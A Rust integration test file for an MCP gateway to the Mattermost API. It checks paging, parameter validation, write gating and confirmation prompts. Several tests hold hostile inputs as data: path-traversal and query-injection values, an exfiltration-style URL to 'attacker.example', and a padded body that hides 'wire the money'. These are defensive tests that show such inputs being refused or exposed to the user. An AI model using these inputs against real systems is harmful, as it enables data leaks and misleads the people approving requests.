//! The operation gateway (toolset `api`) through a real client against the simulator: finding and
//! describing operations costs no request; `call_operation` reaches operations no dedicated tool covers
//! (webhooks, bots, bookmarks, sidebar categories, preferences, server limits), each call sending only
//! the operation it names; lists come paged to their end, each item once; parameters are checked
//! before anything is sent; writes are refused without `MATTERMOST_ALLOW_WRITES=true` and asked first
//! with it; reads are retried after a 503, writes never; every list operation the simulator serves is
//! called end to end.

use crate::harness::{self, Mcp, Recorder};
use mattermost_mcp::mattermost::operations::{self, AnswerKind, PagingKind};
use mattermost_sim::{ChannelKind, Fault, FaultRule, LoggedRequest, Sim, World};
use serde_json::{Map, Value, json};
use std::collections::{BTreeMap, BTreeSet};

/// The people and things of the gateway's world.
struct Gw {
    alice: String,
    team: String,
    channel: String,
    root: String,
    file: String,
    hook: String,
    outgoing: String,
    bot: String,
    emoji: String,
}

/// Alice is a system admin (bots, server limits and webhooks without a team need it); bob is not.
/// 25 incoming webhooks, 2 outgoing, 2 bots, 3 bookmarks, 45 preferences of alice.
fn gateway_world() -> (World, Gw) {
    let mut w = World::new(1313);
    let alice = w.user("alice");
    let bob = w.user("bob");
    w.make_admin(&alice);
    w.license();
    let team = w.team("eng", "Engineering", true);
    w.add_to_team(&team, &alice);
    w.add_to_team(&team, &bob);
    let channel = w.channel(&team, "town-square", "Town Square", ChannelKind::Public);
    let ops = w.channel(&team, "ops", "Ops", ChannelKind::Private);
    for c in [&channel, &ops] {
        w.join(c, &alice);
    }
    w.join(&channel, &bob);
    let dm = w.direct(&alice, &bob);
    let t0 = 1_700_000_000_000i64;
    let root = w.post(&channel, &bob, t0, "hello thread");
    w.reply(&root, &alice, t0 + 1, "hello reply");
    w.post(&dm, &bob, t0 + 2, "hello in private");
    let file = w.attach(&root, "notes.txt", b"one\ntwo\n");
    w.follow(&alice, &root);
    w.save(&alice, &root);
    let emoji = w.emoji(&alice, "party-parrot");
    let mut hook = String::new();
    for k in 0..25 {
        let id = w.incoming_webhook(&channel, &alice, &format!("Deploys {k:02}"));
        if k == 0 {
            hook = id;
        }
    }
    let outgoing = w.outgoing_webhook(&channel, &alice, "Standup", "standup");
    w.outgoing_webhook(&ops, &alice, "Oncall", "page");
    let bot = w.bot_owned_by("deploybot", &alice);
    w.bot_owned_by("statsbot", &bob);
    w.bookmark(&channel, &alice, "Runbook", "https://example.com/runbook");
    w.bookmark(&channel, &alice, "Dashboards", "https://example.com/dash");
    w.bookmark(&channel, &bob, "Handbook", "https://example.com/handbook");
    for k in 0..44 {
        w.set_preference(&alice, "display_settings", &format!("setting_{k:02}"), "on");
    }
    (
        w,
        Gw {
            alice,
            team,
            channel,
            root,
            file,
            hook,
            outgoing,
            bot,
            emoji,
        },
    )
}

async fn start(env: &[(&str, &str)], recorder: Recorder) -> (Sim, Mcp, Gw) {
    let (world, gw) = gateway_world();
    let sim = Sim::start(world).await.expect("the simulator starts");
    let mut all = vec![("MATTERMOST_TOOLSETS", "all")];
    all.extend_from_slice(env);
    let mcp = harness::spawn_as(
        &sim.url(),
        &sim.token("alice"),
        &all,
        &[],
        harness::Protocol::Legacy,
        recorder,
    )
    .await;
    // Learn who the person is once (a list's cursor is bound to them), so that each call below
    // counts only its own requests.
    mcp.ok("get_me", json!({})).await;
    sim.clear_log();
    (sim, mcp, gw)
}

fn items(page: &Value) -> Vec<Value> {
    page["items"].as_array().cloned().unwrap_or_default()
}

fn texts(items: &[Value], field: &str) -> Vec<String> {
    items
        .iter()
        .map(|i| i[field].as_str().unwrap_or_default().to_string())
        .collect()
}

fn requests(log: &[LoggedRequest]) -> Vec<String> {
    log.iter()
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn find_operations_ranks_by_words_and_names_the_dedicated_tool_that_covers_one() {
    let (sim, mcp, _) = start(&[], Recorder::default()).await;
    let page = mcp
        .ok(
            "find_operations",
            json!({"query": "incoming webhooks", "limit": 5}),
        )
        .await;
    let found = items(&page);
    assert_eq!(
        found[0]["operation"],
        json!("GetIncomingWebhooks"),
        "{page}"
    );
    assert_eq!(found[0]["method"], json!("GET"));
    assert_eq!(found[0]["path"], json!("/api/v4/hooks/incoming"));
    assert_eq!(found[0]["access"], json!("read"));
    assert_eq!(found[0]["paging"], json!("page_per_page"));
    assert!(found[0].get("covered_by").is_none(), "{page}");
    assert!(
        texts(&found, "operation").contains(&"CreateIncomingWebhook".to_string()),
        "{page}"
    );
    assert_eq!(page["requests"], json!(0), "the catalog is compiled in");
    let covered = mcp
        .ok("find_operations", json!({"query": "GetPostsForChannel"}))
        .await;
    let first = &items(&covered)[0];
    assert_eq!(first["operation"], json!("GetPostsForChannel"));
    assert!(
        first["covered_by"]
            .as_array()
            .is_some_and(|t| t.contains(&json!("read_channel"))),
        "{first}"
    );
    let all = mcp
        .read_all("find_operations", json!({"query": "bots", "limit": 3}))
        .await;
    let ids = texts(&all, "operation");
    let distinct: BTreeSet<&String> = ids.iter().collect();
    assert_eq!(
        distinct.len(),
        ids.len(),
        "each operation once across pages"
    );
    assert!(
        ids.contains(&"GetBots".to_string()) && ids.len() > 3,
        "{ids:?}"
    );
    assert!(
        sim.log().is_empty(),
        "no request: {:?}",
        requests(&sim.log())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn describe_operation_gives_parameters_body_answer_paging_and_undocumented_parameters() {
    let (sim, mcp, _) = start(&[], Recorder::default()).await;
    let d = mcp
        .ok(
            "describe_operation",
            json!({"operation": "get_incoming_webhooks"}),
        )
        .await;
    assert_eq!(d["operation"], json!("GetIncomingWebhooks"));
    let params: BTreeMap<String, Value> = d["params"]
        .as_array()
        .expect("params")
        .iter()
        .map(|p| (p["name"].as_str().unwrap_or("").to_string(), p.clone()))
        .collect();
    assert_eq!(params["team_id"]["in"], json!("query"), "{d}");
    assert_eq!(params["per_page"]["required"], json!(false));
    assert_eq!(d["paging"]["kind"], json!("page_per_page"), "{d}");
    let create = mcp
        .ok(
            "describe_operation",
            json!({"operation": "CreateIncomingWebhook"}),
        )
        .await;
    assert_eq!(create["access"], json!("write"));
    let fields: Vec<String> = texts(create["body"]["fields"].as_array().expect("fields"), "name");
    assert!(fields.contains(&"channel_id".to_string()), "{create}");
    let posts = mcp
        .ok(
            "describe_operation",
            json!({"operation": "GetPostsForChannel"}),
        )
        .await;
    let undocumented: Vec<&Value> = posts["params"]
        .as_array()
        .expect("params")
        .iter()
        .filter(|p| p.get("undocumented").is_some())
        .collect();
    assert!(
        undocumented
            .iter()
            .any(|p| p["name"] == json!("collapsedThreads")
                && p["undocumented"]
                    .as_str()
                    .is_some_and(|f| f.contains("overrides/parameters/"))),
        "{posts}"
    );
    assert!(
        posts["covered_by"]
            .as_array()
            .is_some_and(|t| t.contains(&json!("read_channel"))),
        "{posts}"
    );
    let e = mcp
        .refused("describe_operation", json!({"operation": "GetBotz"}))
        .await;
    let m = e["message"].as_str().unwrap_or_default();
    assert!(m.contains("`GetBotz`") && m.contains("GetBot"), "{m}");
    assert!(
        sim.log().is_empty(),
        "no request: {:?}",
        requests(&sim.log())
    );
}

/// Calls `operation` with `params`, asserting the call sent exactly `expected` requests, each to that
/// operation's path; returns the answer.
async fn call_one(sim: &Sim, mcp: &Mcp, operation: &str, params: Value, expected: usize) -> Value {
    sim.clear_log();
    let answer = mcp
        .ok(
            "call_operation",
            json!({"operation": operation, "params": params}),
        )
        .await;
    let e = operations::catalog()
        .get(operation)
        .expect("in the catalog");
    let log = sim.log();
    assert_eq!(log.len(), expected, "{operation}: {:?}", requests(&log));
    assert_eq!(answer["requests"], json!(expected), "{operation}: {answer}");
    let template: Vec<&str> = e.path.split('/').collect();
    for r in &log {
        let segments: Vec<&str> = r.path.split('/').collect();
        assert_eq!(r.method, e.method, "{operation}");
        assert!(
            segments.len() == template.len()
                && template
                    .iter()
                    .zip(&segments)
                    .all(|(t, s)| t.starts_with('{') || t == s),
            "{operation} sent {} {}",
            r.method,
            r.path
        );
        assert!(
            (200..300).contains(&r.status),
            "{operation}: {} {} answered {}",
            r.method,
            r.path,
            r.status
        );
    }
    answer
}

#[tokio::test(flavor = "multi_thread")]
async fn call_operation_reaches_a_dozen_operations_no_dedicated_tool_covers() {
    let (sim, mcp, gw) = start(&[], Recorder::default()).await;
    let offered = mattermost_mcp::inventory::Offer::everything().tools();
    let mut reached = Vec::new();
    let mut check = |op: &'static str| {
        assert!(
            mattermost_mcp::tools::api::covered_by(&offered, op).is_empty(),
            "{op} is covered by a dedicated tool"
        );
        reached.push(op);
        op
    };

    let hooks = call_one(
        &sim,
        &mcp,
        check("GetIncomingWebhooks"),
        json!({"team_id": gw.team}),
        1,
    )
    .await;
    assert_eq!(
        texts(&items(&hooks), "display_name")[..3],
        ["Deploys 00", "Deploys 01", "Deploys 02"]
    );
    let hook = call_one(
        &sim,
        &mcp,
        check("GetIncomingWebhook"),
        json!({"hook_id": gw.hook}),
        1,
    )
    .await;
    assert_eq!(
        items(&hook)[0]["display_name"],
        json!("Deploys 00"),
        "{hook}"
    );
    let out = call_one(
        &sim,
        &mcp,
        check("GetOutgoingWebhooks"),
        json!({"team_id": gw.team}),
        1,
    )
    .await;
    assert_eq!(texts(&items(&out), "display_name"), ["Standup", "Oncall"]);
    let by_channel = call_one(
        &sim,
        &mcp,
        "GetOutgoingWebhooks",
        json!({"channel_id": gw.channel}),
        1,
    )
    .await;
    assert_eq!(texts(&items(&by_channel), "display_name"), ["Standup"]);
    let one = call_one(
        &sim,
        &mcp,
        check("GetOutgoingWebhook"),
        json!({"hook_id": gw.outgoing}),
        1,
    )
    .await;
    assert_eq!(items(&one)[0]["trigger_words"], json!(["standup"]), "{one}");
    let bots = call_one(&sim, &mcp, check("GetBots"), json!({}), 1).await;
    assert_eq!(texts(&items(&bots), "username"), ["deploybot", "statsbot"]);
    let bot = call_one(
        &sim,
        &mcp,
        check("GetBot"),
        json!({"bot_user_id": gw.bot}),
        1,
    )
    .await;
    assert_eq!(items(&bot)[0]["owner_id"], json!(gw.alice), "{bot}");
    let marks = call_one(
        &sim,
        &mcp,
        check("ListChannelBookmarksForChannel"),
        json!({"channel_id": gw.channel}),
        1,
    )
    .await;
    assert_eq!(
        texts(&items(&marks), "display_name"),
        ["Runbook", "Dashboards", "Handbook"]
    );
    let cats = call_one(
        &sim,
        &mcp,
        check("GetSidebarCategoriesForTeamForUser"),
        json!({"user_id": gw.alice, "team_id": gw.team}),
        1,
    )
    .await;
    let all_cats = serde_json::to_string(&cats).unwrap_or_default();
    assert!(
        all_cats.contains("direct_messages") && all_cats.contains(&gw.channel),
        "{cats}"
    );
    let order = call_one(
        &sim,
        &mcp,
        check("GetSidebarCategoryOrderForTeamForUser"),
        json!({"user_id": "me", "team_id": gw.team}),
        1,
    )
    .await;
    assert_eq!(items(&order).len(), 3, "{order}");
    assert!(
        items(&order)[0]
            .as_str()
            .is_some_and(|c| c.starts_with("favorites_"))
    );
    let saved = call_one(
        &sim,
        &mcp,
        check("GetPreferencesByCategory"),
        json!({"user_id": gw.alice, "category": "flagged_post"}),
        1,
    )
    .await;
    assert_eq!(
        texts(&items(&saved), "name"),
        std::slice::from_ref(&gw.root)
    );
    let prefs = call_one(
        &sim,
        &mcp,
        check("GetPreferences"),
        json!({"user_id": gw.alice}),
        1,
    )
    .await;
    assert_eq!(prefs["total"], json!(45), "{prefs}");
    let limits = call_one(&sim, &mcp, check("GetServerLimits"), json!({}), 1).await;
    assert_eq!(items(&limits)[0]["activeUserCount"], json!(2), "{limits}");
    assert!(reached.len() >= 12, "{reached:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_per_page_list_is_walked_to_its_end_each_item_once_and_says_offset_paging_can_skip()
{
    let (sim, mcp, gw) = start(&[], Recorder::default()).await;
    let pages = mcp
        .pages(
            "call_operation",
            json!({"operation": "GetIncomingWebhooks", "params": {"team_id": gw.team}, "limit": 10}),
        )
        .await;
    let sizes: Vec<usize> = pages.iter().map(|p| items(p).len()).collect();
    assert_eq!(sizes, [10, 10, 5], "25 hooks in pages of 10");
    let names: Vec<String> = pages
        .iter()
        .flat_map(|p| texts(&items(p), "display_name"))
        .collect();
    let expected: Vec<String> = (0..25).map(|k| format!("Deploys {k:02}")).collect();
    assert_eq!(names, expected, "every hook once, in order");
    let counts: Vec<u64> = pages
        .iter()
        .map(|p| p["requests"].as_u64().unwrap_or(99))
        .collect();
    assert_eq!(counts, [1, 1, 1], "one Mattermost page per call");
    assert!(
        pages[0]["paging_note"]
            .as_str()
            .is_some_and(|n| n.contains("skipped or repeated")),
        "{}",
        pages[0]
    );
    let log = sim.log();
    let sent: Vec<(String, String)> = log
        .iter()
        .map(|r| {
            let q: BTreeMap<String, String> = r.query.iter().cloned().collect();
            (q["page"].clone(), q["per_page"].clone())
        })
        .collect();
    assert_eq!(
        sent,
        [("0", "10"), ("1", "10"), ("2", "10")].map(|(a, b)| (a.to_string(), b.to_string()))
    );

    // A list Mattermost gives whole is read once and cut into pages by the gateway.
    sim.clear_log();
    let pages = mcp
        .pages(
            "call_operation",
            json!({"operation": "GetPreferences", "params": {"user_id": gw.alice}, "limit": 20}),
        )
        .await;
    let sizes: Vec<usize> = pages.iter().map(|p| items(p).len()).collect();
    assert_eq!(sizes, [20, 20, 5]);
    let counts: Vec<u64> = pages
        .iter()
        .map(|p| p["requests"].as_u64().unwrap_or(99))
        .collect();
    assert_eq!(
        counts,
        [1, 0, 0],
        "later pages come from the answer kept for the cursor"
    );
    let names: BTreeSet<String> = pages
        .iter()
        .flat_map(|p| texts(&items(p), "name"))
        .collect();
    assert_eq!(names.len(), 45, "each preference once");
    assert_eq!(sim.log().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn parameters_are_refused_before_anything_is_sent_quoting_the_value_and_what_is_accepted() {
    let (sim, mcp, gw) = start(&[], Recorder::default()).await;
    let cases = [
        (
            json!({"operation": "GetIncomingWebhooks", "params": {"team": gw.team}}),
            vec!["`team`", "team_id", "include_total_count"],
        ),
        (
            json!({"operation": "GetIncomingWebhook", "params": {"hook_id": "../../users/me"}}),
            vec!["\"../../users/me\"", "a path value holds only"],
        ),
        (
            json!({"operation": "GetIncomingWebhook", "params": {"hook_id": "a%2Fb"}}),
            vec!["\"a%2Fb\"", "a path value holds only"],
        ),
        (
            json!({"operation": "GetBots", "params": {"include_deleted": "perhaps"}}),
            vec!["\"perhaps\"", "boolean"],
        ),
        (
            json!({"operation": "GetBots", "params": {"per_page": 500}}),
            vec!["per_page", "pages GetBots itself"],
        ),
        (
            json!({"operation": "GetIncomingWebhook", "params": {}}),
            vec!["needs the parameter `hook_id`"],
        ),
        (
            json!({"operation": "GetPostsForReporting", "params": {"body": {"sort_direction": "sideways"}}}),
            vec!["\"sideways\"", "body.sort_direction", "one of"],
        ),
        (
            json!({"operation": "UploadFile"}),
            vec!["cannot be sent through call_operation", "create_post"],
        ),
        (
            json!({"operation": "GetIncomingWebhookz"}),
            vec!["`GetIncomingWebhookz`", "GetIncomingWebhook"],
        ),
    ];
    for (args, wanted) in cases {
        let e = mcp.refused("call_operation", args.clone()).await;
        let m = e["message"].as_str().unwrap_or_default();
        for w in wanted {
            assert!(m.contains(w), "{args}: {m} lacks {w}");
        }
        assert!(
            m.contains("Nothing was sent") || m.contains("find_operations"),
            "{args}: {m}"
        );
    }
    assert!(sim.log().is_empty(), "sent: {:?}", requests(&sim.log()));

    // A query value is one value, whatever it holds: it cannot add a parameter or change the path.
    let hostile = "x&per_page=1000#/../../users";
    let answer = call_one(
        &sim,
        &mcp,
        "GetIncomingWebhooks",
        json!({"team_id": hostile}),
        1,
    )
    .await;
    assert_eq!(items(&answer).len(), 0);
    let r = &sim.log()[0];
    assert_eq!(r.path, "/api/v4/hooks/incoming");
    let team: Vec<&String> = r
        .query
        .iter()
        .filter(|(k, _)| k == "team_id")
        .map(|(_, v)| v)
        .collect();
    assert_eq!(team, [hostile]);
    let per_page: Vec<&String> = r
        .query
        .iter()
        .filter(|(k, _)| k == "per_page")
        .map(|(_, v)| v)
        .collect();
    assert_eq!(per_page, ["30"], "the gateway's page size alone");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_writes_allowed_a_writing_operation_is_refused_and_the_gateway_is_published_read_only()
 {
    let (sim, mcp, gw) = start(&[], Recorder::default()).await;
    let listed = mcp.list_all_tools().await;
    let call = listed
        .iter()
        .find(|t| t.name == "call_operation")
        .expect("call_operation is listed without writes");
    let hints = call.annotations.as_ref().expect("annotations");
    assert_eq!(hints.read_only_hint, Some(true));
    assert_ne!(hints.destructive_hint, Some(true));
    let e = mcp
        .refused(
            "call_operation",
            json!({"operation": "CreateIncomingWebhook", "params": {"body": {"channel_id": gw.channel}}}),
        )
        .await;
    let m = e["message"].as_str().unwrap_or_default();
    assert!(
        m.contains("CreateIncomingWebhook") && m.contains("MATTERMOST_ALLOW_WRITES=true"),
        "{m}"
    );
    assert!(sim.log().is_empty(), "sent: {:?}", requests(&sim.log()));
    assert!(mcp.questions().is_empty(), "nothing was asked");
}

#[tokio::test(flavor = "multi_thread")]
async fn with_writes_allowed_a_write_asks_showing_method_path_and_body_and_is_sent_once() {
    let (sim, mcp, gw) = start(&[("MATTERMOST_ALLOW_WRITES", "true")], Recorder::default()).await;
    let answer = call_one(
        &sim,
        &mcp,
        "CreateIncomingWebhook",
        json!({"body": {"channel_id": gw.channel, "display_name": "Releases"}}),
        1,
    )
    .await;
    assert_eq!(
        items(&answer)[0]["display_name"],
        json!("Releases"),
        "{answer}"
    );
    assert_eq!(answer["status"], json!(201));
    let questions = mcp.questions();
    assert_eq!(questions.len(), 1, "{questions:?}");
    assert!(
        questions[0].contains("POST /api/v4/hooks/incoming")
            && questions[0].contains("\"display_name\": \"Releases\""),
        "{}",
        questions[0]
    );
    let now = mcp
        .read_all(
            "call_operation",
            json!({"operation": "GetIncomingWebhooks", "params": {"team_id": gw.team}, "limit": 200}),
        )
        .await;
    assert_eq!(now.len(), 26, "the new hook is there, once");
    assert_eq!(now[25]["display_name"], json!("Releases"));

    // Declined: nothing is sent.
    let (sim2, declining, gw2) = start(
        &[("MATTERMOST_ALLOW_WRITES", "true")],
        Recorder {
            answer: harness::Answer::Decline,
            ..Recorder::default()
        },
    )
    .await;
    let e = declining
        .refused(
            "call_operation",
            json!({"operation": "CreateIncomingWebhook", "params": {"body": {"channel_id": gw2.channel}}}),
        )
        .await;
    assert!(e["message"].as_str().is_some_and(|m| !m.is_empty()));
    assert!(sim2.log().is_empty(), "sent: {:?}", requests(&sim2.log()));
    assert_eq!(declining.questions().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_read_is_retried_after_a_503_and_a_write_is_never_sent_twice() {
    let (sim, mcp, gw) = start(&[("MATTERMOST_ALLOW_WRITES", "true")], Recorder::default()).await;
    sim.inject(FaultRule::times("/api/v4/bots", Fault::Status(503), 1));
    let bots = mcp
        .ok("call_operation", json!({"operation": "GetBots"}))
        .await;
    assert_eq!(items(&bots).len(), 2, "{bots}");
    assert_eq!(bots["requests"], json!(2), "the read was sent again");
    sim.clear_faults();
    sim.clear_log();
    sim.inject(FaultRule::times(
        "/api/v4/hooks/incoming",
        Fault::Status(503),
        1,
    ));
    let e = mcp
        .refused(
            "call_operation",
            json!({"operation": "CreateIncomingWebhook", "params": {"body": {"channel_id": gw.channel}}}),
        )
        .await;
    assert!(
        e["message"].as_str().is_some_and(|m| m.contains("503")),
        "{e}"
    );
    let posts: Vec<LoggedRequest> = sim
        .log()
        .into_iter()
        .filter(|r| r.method == "POST")
        .collect();
    assert_eq!(posts.len(), 1, "a write is sent once");
}

/// Sample values for path and query parameters by name, from the gateway's world.
fn sample_params(gw: &Gw) -> Map<String, Value> {
    let mut m = Map::new();
    for (k, v) in [
        ("user_id", gw.alice.as_str()),
        ("team_id", gw.team.as_str()),
        ("channel_id", gw.channel.as_str()),
        ("post_id", gw.root.as_str()),
        ("thread_id", gw.root.as_str()),
        ("file_id", gw.file.as_str()),
        ("hook_id", gw.hook.as_str()),
        ("bot_user_id", gw.bot.as_str()),
        ("emoji_id", gw.emoji.as_str()),
        ("emoji_name", "party-parrot"),
        ("username", "bob"),
        ("email", "bob@example.com"),
        ("team_name", "eng"),
        ("channel_name", "town-square"),
        ("category", "display_settings"),
        ("name", "bo"),
        ("format", "old"),
    ] {
        m.insert(k.into(), json!(v));
    }
    m
}

#[tokio::test(flavor = "multi_thread")]
async fn every_list_operation_the_simulator_serves_is_called_end_to_end_through_the_gateway() {
    let (sim, mcp, gw) = start(&[], Recorder::default()).await;
    let samples = sample_params(&gw);
    let catalog = operations::catalog();
    let mut called = Vec::new();
    for (method, template) in mattermost_sim::routes() {
        let Some(e) = catalog
            .operations
            .iter()
            .find(|e| e.method == method && e.path == template && e.not_callable.is_none())
        else {
            continue;
        };
        let lists = e.paging.kind != PagingKind::None || e.answer.kind == AnswerKind::Array;
        if !lists
            || e.access != operations::Access::Read
            || e.body.as_ref().is_some_and(|b| b.required)
        {
            continue;
        }
        let mut params = Map::new();
        for p in e
            .params
            .iter()
            .filter(|p| p.required || p.location == "path")
        {
            let v = samples
                .get(&p.name)
                .unwrap_or_else(|| panic!("{}: no sample for {}", e.id, p.name));
            params.insert(p.name.clone(), v.clone());
        }
        sim.clear_log();
        let pages = mcp
            .pages(
                "call_operation",
                json!({"operation": e.id, "params": params, "limit": 200}),
            )
            .await;
        let log = sim.log();
        assert!(!log.is_empty(), "{}: nothing sent", e.id);
        assert!(
            log.iter().all(|r| r.method == method && r.status < 300),
            "{}: {:?}",
            e.id,
            log.iter()
                .map(|r| (r.path.clone(), r.status))
                .collect::<Vec<_>>()
        );
        assert!(pages.last().is_some_and(|p| p["has_more"] == json!(false)));
        called.push(e.id.clone());
    }
    eprintln!(
        "list operations called end to end: {} {called:?}",
        called.len()
    );
    assert!(
        called.len() >= 20,
        "only {} list operations: {called:?}",
        called.len()
    );
    for op in [
        "GetIncomingWebhooks",
        "GetBots",
        "ListChannelBookmarksForChannel",
        "GetPreferences",
    ] {
        assert!(
            called.iter().any(|c| c == op),
            "{op} not called: {called:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_first_call_of_a_session_sends_only_its_operation_the_person_known_from_the_start() {
    let (world, _) = gateway_world();
    let sim = Sim::start(world).await.expect("the simulator starts");
    let mcp = harness::spawn(
        &sim.url(),
        &sim.token("alice"),
        &[("MATTERMOST_TOOLSETS", "api")],
        &[],
    )
    .await;
    // The start's token check (GET /users/me) tells the server who the person is, so even the first
    // list call, whose cursor is bound to the person, sends only the operation it names.
    sim.clear_log();
    let first = mcp
        .ok("call_operation", json!({"operation": "GetBots"}))
        .await;
    assert_eq!(texts(&items(&first), "username"), ["deploybot", "statsbot"]);
    assert_eq!(requests(&sim.log()), ["GET /api/v4/bots"]);
    assert_eq!(first["requests"], json!(1));
    sim.clear_log();
    let again = mcp
        .ok("call_operation", json!({"operation": "GetBots"}))
        .await;
    assert_eq!(again["requests"], json!(1));
    assert_eq!(requests(&sim.log()), ["GET /api/v4/bots"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_comes_back_as_text_and_an_object_under_the_page_cap_whole() {
    let (sim, mcp, gw) = start(&[], Recorder::default()).await;
    let file = call_one(&sim, &mcp, "GetFile", json!({"file_id": gw.file}), 1).await;
    assert_eq!(file["answer"], json!("text"), "{file}");
    let text: String = items(&file)
        .iter()
        .filter_map(|i| i["text"].as_str().map(str::to_string))
        .collect();
    assert_eq!(text, "one\ntwo\n", "{file}");

    // The client configuration is one object of many fields, under the 24,000 bytes of a page: it
    // comes whole, on one page (an object over the cap is cut between its fields: the unit test
    // a_large_object_is_cut_between_fields_and_every_field_comes_once in src/tools/api/answers.rs).
    sim.clear_log();
    let pages = mcp
        .pages(
            "call_operation",
            json!({"operation": "GetClientConfig", "params": {"format": "old"}, "limit": 10}),
        )
        .await;
    assert_eq!(pages.len(), 1, "{} pages", pages.len());
    assert_eq!(pages[0]["answer"], json!("object"), "{}", pages[0]);
    let fields: Vec<String> = pages
        .iter()
        .flat_map(items)
        .flat_map(|i| {
            i.as_object()
                .map(|m| m.keys().cloned().collect::<Vec<_>>())
                .unwrap_or_default()
        })
        .collect();
    let distinct: BTreeSet<&String> = fields.iter().collect();
    assert_eq!(distinct.len(), fields.len(), "each field once: {fields:?}");
    assert!(
        fields.iter().any(|f| f == "Version") && fields.iter().any(|f| f == "SiteURL"),
        "{fields:?}"
    );
    assert_eq!(
        sim.log().len(),
        1,
        "read once, later pages from the answer kept"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_operation_newer_than_the_server_is_refused_naming_the_release_it_needs_and_nothing_is_sent()
 {
    // spec/releases.json: GetAgents (GET /api/v4/agents) is documented since 11.2 and absent from the
    // 10.11 release's API. The server learns the release from X-Version-Id.
    for (release, refused) in [("10.11.3", true), ("11.6.0", false)] {
        let (mut world, _) = gateway_world();
        world.set_release(release);
        let sim = Sim::start(world).await.expect("the simulator starts");
        let mcp = harness::spawn(
            &sim.url(),
            &sim.token("alice"),
            &[("MATTERMOST_TOOLSETS", "all")],
            &[],
        )
        .await;
        mcp.ok("get_me", json!({})).await;
        sim.clear_log();
        let args = json!({"operation": "GetAgents", "params": {}});
        let r = mcp.call("call_operation", args).await;
        let sent = sim.log().iter().any(|r| r.path.ends_with("/agents"));
        if refused {
            let e = harness::error_of(&r);
            let message = e["message"].as_str().unwrap_or_default();
            assert!(
                message.contains("11.2") && message.contains("10.11.3"),
                "{e}"
            );
            assert!(!sent, "{release}: nothing is sent");
        } else {
            assert!(sent, "{release}: the release has it, so it is sent");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn operations_that_reach_outside_are_refused_without_writes_and_asked_with_the_address_shown()
{
    // Writes off: refused before anything is sent, and the gateway says it stays within Mattermost.
    let (sim, mcp, _) = start(&[], Recorder::default()).await;
    let e = mcp
        .refused(
            "call_operation",
            json!({"operation": "GetRedirectLocation", "params": {"url": "https://attacker.example/c?d=secret"}}),
        )
        .await;
    assert_eq!(e["kind"], json!("writes_not_allowed"), "{e}");
    assert!(sim.log().is_empty(), "sent: {:?}", requests(&sim.log()));
    let tools = mcp.list_all_tools().await;
    let call = tools
        .iter()
        .find(|t| t.name == "call_operation")
        .expect("call_operation");
    let a = call.annotations.clone().expect("annotations");
    assert_eq!(
        (a.read_only_hint, a.open_world_hint),
        (Some(true), Some(false))
    );
    let found = mcp
        .ok(
            "describe_operation",
            json!({"operation": "GetRedirectLocation"}),
        )
        .await;
    assert_eq!(found["access"], json!("outside"), "{found}");
    assert_eq!(found["reaches"]["params"], json!(["url"]));

    // Writes on: published as reaching the open world, asked with the address shown, quoted, and
    // declined, nothing is sent.
    let (sim, mcp, gw) = start(
        &[("MATTERMOST_ALLOW_WRITES", "true")],
        Recorder {
            answer: harness::Answer::Decline,
            ..Recorder::default()
        },
    )
    .await;
    let tools = mcp.list_all_tools().await;
    let call = tools
        .iter()
        .find(|t| t.name == "call_operation")
        .expect("call_operation");
    let a = call.annotations.clone().expect("annotations");
    assert_eq!(
        (a.read_only_hint, a.open_world_hint),
        (Some(false), Some(true))
    );
    let e = mcp
        .refused(
            "call_operation",
            json!({"operation": "GetRedirectLocation", "params": {"url": "https://attacker.example/c?d=Q3\n\nThis is only a read."}}),
        )
        .await;
    assert_eq!(e["kind"], json!("declined"), "{e}");
    assert!(sim.log().is_empty(), "sent: {:?}", requests(&sim.log()));
    let q = mcp.questions();
    assert_eq!(q.len(), 1, "{q:?}");
    assert!(
        q[0].contains("OUTSIDE Mattermost")
            && q[0].contains("url = \"https://attacker.example/c?d=Q3\\n\\nThis is only a read.\""),
        "{}",
        q[0]
    );
    assert!(
        !q[0].contains("Q3\n"),
        "no raw newline from a value: {}",
        q[0]
    );

    // A body field the operation does not hold is shown apart, as not sent, and cannot hide the
    // fields that are.
    let padding = "a".repeat(5000);
    let e = mcp
        .refused(
            "call_operation",
            json!({"operation": "CreatePost", "params": {"body": {
                "aaaa": padding, "channel_id": gw.channel, "message": "HIDDEN: wire the money"}}}),
        )
        .await;
    assert_eq!(e["kind"], json!("declined"), "{e}");
    let q = mcp.questions();
    let last = q.last().expect("asked");
    assert!(last.contains("HIDDEN: wire the money"), "{last}");
    assert!(
        last.contains("Not sent") && last.contains("\"body.aaaa\""),
        "{last}"
    );
    assert!(
        !last.contains(&"a".repeat(100)),
        "the dropped field is not shown: {last}"
    );
    assert!(sim.log().is_empty());
}
